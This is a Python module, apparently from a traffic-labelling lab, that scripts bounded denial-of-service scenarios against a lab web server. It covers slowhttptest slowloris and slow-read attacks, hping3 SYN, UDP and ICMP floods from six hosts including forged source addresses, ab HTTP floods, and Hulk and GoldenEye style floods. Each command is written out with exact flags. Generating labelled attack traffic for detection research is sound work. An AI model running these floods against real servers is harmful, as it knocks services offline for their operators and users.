"""Attacks that wear a server down: slow HTTP, packet floods and HTTP floods, bounded in count, rate and time."""

from __future__ import annotations

from collections.abc import Callable, Sequence
from concurrent.futures import ThreadPoolExecutor
from functools import partial

from lab.labels import TCP
from lab.scenarios import Scenario, Stage
from lab.servers import start_web

UNUSED_SOURCES = [f"10.77.0.{number}" for number in range(231, 237)]
"""Addresses of the lab that no host has: answers to them go nowhere, as with any forged source."""


def _slow(
    class_name: str, mode: str, *options: str, page: str = "1m.bin", seconds: int = 12, connections: int = 40
) -> Callable[[Stage], None]:
    def action(stage: Stage) -> None:
        attacker, target = stage.host("mallory"), stage.host("web")
        words = ["-c", str(connections), "-r", "20", "-l", str(seconds), "-p", "3", "-v", "0"]
        url = f"http://{target.ipv4}/{page}"
        with stage.label(class_name, f"slowhttptest {mode}", attacker.ipv4, target.ipv4, 80, TCP):
            attacker.run("slowhttptest", mode, *words, *options, "-u", url, timeout_s=seconds + 30)

    return action


def _packet_flood(tool: str, *options: str, is_forged: bool = False) -> Callable[[Stage], None]:
    """Six sources at once, 500 packets each at 250 packets/s; what comes back, ICMP too, is of the flood."""

    def action(stage: Stage) -> None:
        zombies, target = stage.host("zombies"), stage.host("web")
        sources = UNUSED_SOURCES if is_forged else zombies.all_ipv4
        words = ["-q", "-I", "eth0", "-i", "u4000", "-c", "500", *options]
        commands = [("hping3", *words, "-a", source, target.ipv4) for source in sources]
        with stage.label("DDoS", tool, sources, target.ipv4):
            # hping3 says 1 when nobody answers, which is what a forged source is for.
            together([partial(zombies.run, *command, timeout_s=30) for command in commands])

    return action


def together(actions: Sequence[Callable[[], object]]) -> None:
    """Run the actions at the same time; the first failure is raised when all have ended."""
    with ThreadPoolExecutor(len(actions)) as pool:
        running = [pool.submit(action) for action in actions]
    for future in running:
        future.result()


def _http_ddos(stage: Stage) -> None:
    zombies, target = stage.host("zombies"), stage.host("web")
    url = f"http://{target.ipv4}/1k.bin"
    commands = [("ab", "-q", "-r", "-n", "60", "-c", "3", "-B", source, url) for source in zombies.all_ipv4]
    with stage.label("DDoS", "ab", zombies.all_ipv4, target.ipv4, 80, TCP):
        together([partial(zombies.run, *command, timeout_s=30, check=True) for command in commands])


def _http_flood(style: str, class_name: str) -> Callable[[Stage], None]:
    def action(stage: Stage) -> None:
        attacker, target = stage.host("mallory"), stage.host("web")
        with stage.label(class_name, f"http_flood {style}", attacker.ipv4, target.ipv4, 80, TCP):
            attacker.run_module("lab.tools.http_flood", style, target.ipv4)

    return action


_WEB = ("nginx", "openssl")

FLOOD_SCENARIOS = (
    Scenario(
        "slow-headers",
        "Slowloris: headers that never end.",
        ("DoS slowloris",),
        (*_WEB, "slowhttptest"),
        (start_web,),
        _slow("DoS slowloris", "-H", "-i", "3", page=""),
    ),
    Scenario(
        "slow-body",
        "Bodies that arrive a few bytes at a time.",
        ("DoS Slowhttptest",),
        (*_WEB, "slowhttptest"),
        (start_web,),
        _slow("DoS Slowhttptest", "-B", "-i", "3", page="app/login"),
    ),
    Scenario(
        "slow-read",
        "Answers read a few bytes at a time.",
        ("DoS Slowhttptest",),
        (*_WEB, "slowhttptest"),
        (start_web,),
        _slow("DoS Slowhttptest", "-X", "-n", "2", "-w", "256", "-y", "512", "-z", "32", connections=25),
    ),
    Scenario(
        "slow-range",
        "Overlapping byte ranges.",
        ("DoS Slowhttptest",),
        (*_WEB, "slowhttptest"),
        (start_web,),
        _slow("DoS Slowhttptest", "-R", "-a", "10", "-b", "300", "-t", "HEAD", seconds=6),
    ),
    Scenario(
        "flood-syn",
        "SYN flood from six hosts.",
        ("DDoS",),
        (*_WEB, "hping3"),
        (start_web,),
        _packet_flood("hping3 -S", "-S", "-p", "80"),
    ),
    Scenario(
        "flood-syn-forged",
        "SYN flood from six forged addresses; its answers reach nobody.",
        ("DDoS",),
        (*_WEB, "hping3"),
        (start_web,),
        _packet_flood("hping3 -S -a", "-S", "-p", "80", is_forged=True),
    ),
    Scenario(
        "flood-udp",
        "UDP flood from six hosts.",
        ("DDoS",),
        (*_WEB, "hping3"),
        (start_web,),
        _packet_flood("hping3 --udp", "--udp", "-p", "53", "-d", "120"),
    ),
    Scenario(
        "flood-icmp",
        "Ping flood from six hosts.",
        ("DDoS",),
        (*_WEB, "hping3"),
        (start_web,),
        _packet_flood("hping3 --icmp", "--icmp", "-d", "200"),
    ),
    Scenario(
        "flood-http",
        "Six hosts asking for a page as fast as they can.",
        ("DDoS",),
        (*_WEB, "ab"),
        (start_web,),
        _http_ddos,
    ),
    Scenario(
        "flood-hulk",
        "Uncacheable requests, a connection for each.",
        ("DoS Hulk",),
        _WEB,
        (start_web,),
        _http_flood("hulk", "DoS Hulk"),
    ),
    Scenario(
        "flood-goldeneye",
        "Uncacheable requests over kept connections.",
        ("DoS GoldenEye",),
        _WEB,
        (start_web,),
        _http_flood("goldeneye", "DoS GoldenEye"),
    ),
)
"""Everything here needs only `web`."""
